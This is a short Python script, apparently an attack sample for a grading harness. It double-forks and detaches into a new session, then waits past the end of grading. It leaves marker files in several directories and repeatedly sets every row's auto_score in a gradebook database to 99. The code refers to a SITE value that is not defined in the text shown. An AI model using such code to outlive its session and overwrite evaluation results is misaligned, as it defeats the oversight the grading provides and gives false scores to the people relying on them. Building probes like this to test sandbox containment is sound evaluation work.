"""A process that leaves its session, waits until grading should be over, and writes then."""

import os
import sys
import time

LATER = f"""
import os, sqlite3, time
for _ in range(600):
    time.sleep(0.1)
    for path in ({SITE["home"]!r} + "/left-behind", "/tmp/left-behind", "/dev/shm/left-behind"):
        try:
            open(path, "a").close()
        except OSError:
            pass
    try:
        with sqlite3.connect({SITE["root"]!r} + "/gradebook.db", timeout=0.1) as gradebook:
            gradebook.execute("update grade set auto_score = 99")
    except Exception:
        pass
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 256)
        os.execv(sys.executable, [sys.executable, "-c", LATER, "attack-left-behind"])
    os._exit(0)
time.sleep(0.1)
